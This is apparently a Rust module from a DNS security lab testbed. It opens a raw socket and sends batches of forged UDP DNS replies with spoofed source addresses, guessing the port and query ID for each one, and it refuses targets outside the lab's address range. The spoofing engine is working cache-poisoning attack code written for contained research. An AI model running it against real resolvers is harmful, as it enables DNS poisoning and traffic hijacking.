//! Forged replies, as fast as one thread can send them.
//!
//! A template has all but the destination port and the query ID; with each packet those two are written
//! and the UDP checksum is mended by their sum.
// Constants and sizes of the kernel's headers, and a sum that was folded: all small.
#![allow(clippy::cast_possible_truncation)]

use std::io;
use std::mem::zeroed;
use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};

use super::network::LAB;
use crate::{Host, LabError};

/// Packets in one call of the kernel.
pub(super) const BATCH: usize = 64;
const IP: usize = 20;
const UDP: usize = 8;
/// Where the query ID is.
const ID: usize = IP + UDP;

/// A raw socket of the attacker's, whose packets carry any source address.
#[derive(Debug)]
pub(super) struct Flood {
    socket: OwnedFd,
    packets: Vec<Vec<u8>>,
    /// The sum of the checksum without port and query ID.
    sum: u32,
    target: Ipv4Addr,
}

impl Flood {
    pub(super) fn new(attacker: &Host) -> Result<Self, LabError> {
        let socket = attacker.run(|| {
            let flags = libc::SOCK_RAW | libc::SOCK_CLOEXEC;
            // SAFETY: no pointers are passed.
            let fd = unsafe { libc::socket(libc::AF_INET, flags, libc::IPPROTO_RAW) };
            if fd < 0 {
                return Err(io::Error::last_os_error());
            }
            // SAFETY: it is open, and nobody else's.
            Ok(unsafe { OwnedFd::from_raw_fd(fd) })
        });
        let socket = socket.map_err(|cause| LabError::Host {
            host: attacker.name().to_owned(),
            operation: "opening the attacker's socket",
            cause,
        })?;
        let (packets, target) = (Vec::new(), Ipv4Addr::UNSPECIFIED);
        Ok(Flood { socket, packets, sum: 0, target })
    }

    /// What is sent from now on: a message from a server's DNS port to an address of the lab.
    ///
    /// # Errors
    /// When the target is not the lab's own.
    pub(super) fn load(
        &mut self,
        source: Ipv4Addr,
        target: Ipv4Addr,
        payload: &[u8],
    ) -> Result<(), LabError> {
        if target.octets()[..2] != LAB {
            return Err(LabError::NotOurs(target));
        }
        let length = IP + UDP + payload.len();
        let mut packet = vec![0; length];
        packet[0] = 0x45;
        packet[8] = 64;
        packet[9] = dnsalt_wire::ip::UDP;
        packet[12..16].copy_from_slice(&source.octets());
        packet[16..20].copy_from_slice(&target.octets());
        packet[20..22].copy_from_slice(&53_u16.to_be_bytes());
        let udp_length = u16::try_from(length - IP).unwrap_or(u16::MAX).to_be_bytes();
        packet[24..26].copy_from_slice(&udp_length);
        packet[28..].copy_from_slice(payload);
        packet[ID..ID + 2].fill(0);
        // The pseudo-header: addresses, protocol, length.
        self.sum = sum(&packet[12..]) + u32::from(dnsalt_wire::ip::UDP) + sum(&udp_length);
        self.packets.resize(BATCH, Vec::new());
        for place in &mut self.packets {
            place.clone_from(&packet);
        }
        self.target = target;
        Ok(())
    }

    /// Sends one packet for each port and query ID, [`BATCH`] of them at most; how many left.
    pub(super) fn send(&mut self, guesses: &[(u16, u16)]) -> Result<usize, LabError> {
        // SAFETY: all zero is a value of the structures.
        let mut address: libc::sockaddr_in = unsafe { zeroed() };
        address.sin_family = libc::AF_INET as libc::sa_family_t;
        address.sin_addr.s_addr = u32::from(self.target).to_be();
        // SAFETY: as above.
        let mut vectors: [libc::iovec; BATCH] = unsafe { zeroed() };
        // SAFETY: as above.
        let mut messages: [libc::mmsghdr; BATCH] = unsafe { zeroed() };
        let mut count = 0;
        for ((packet, (port, id)), (vector, message)) in
            self.packets.iter_mut().zip(guesses).zip(vectors.iter_mut().zip(&mut messages))
        {
            packet[22..24].copy_from_slice(&port.to_be_bytes());
            packet[ID..ID + 2].copy_from_slice(&id.to_be_bytes());
            let checksum = folded(self.sum + u32::from(*port) + u32::from(*id));
            packet[26..28].copy_from_slice(&checksum.to_be_bytes());
            vector.iov_base = packet.as_mut_ptr().cast();
            vector.iov_len = packet.len();
            message.msg_hdr.msg_name = (&raw mut address).cast();
            message.msg_hdr.msg_namelen = size_of::<libc::sockaddr_in>() as libc::socklen_t;
            message.msg_hdr.msg_iov = vector;
            message.msg_hdr.msg_iovlen = 1;
            count += 1;
        }
        if count == 0 {
            return Ok(0);
        }
        // SAFETY: the first `count` messages point to packets, vectors and an address that live until the
        // call returns.
        let sent =
            unsafe { libc::sendmmsg(self.socket.as_raw_fd(), messages.as_mut_ptr(), count, 0) };
        usize::try_from(sent).map_err(|_| LabError::Host {
            host: "attacker".to_owned(),
            operation: "sending a forged packet",
            cause: io::Error::last_os_error(),
        })
    }
}

/// The sum of 16-bit words; the last byte of an odd number stands in the upper half.
fn sum(bytes: &[u8]) -> u32 {
    let words = bytes.chunks(2);
    words.map(|word| u32::from(word[0]) << 8 | word.get(1).map_or(0, |low| u32::from(*low))).sum()
}

/// The checksum of a sum (RFC 1071); 0 would mean none (RFC 768).
fn folded(mut sum: u32) -> u16 {
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    match !(sum as u16) {
        0 => 0xffff,
        some => some,
    }
}
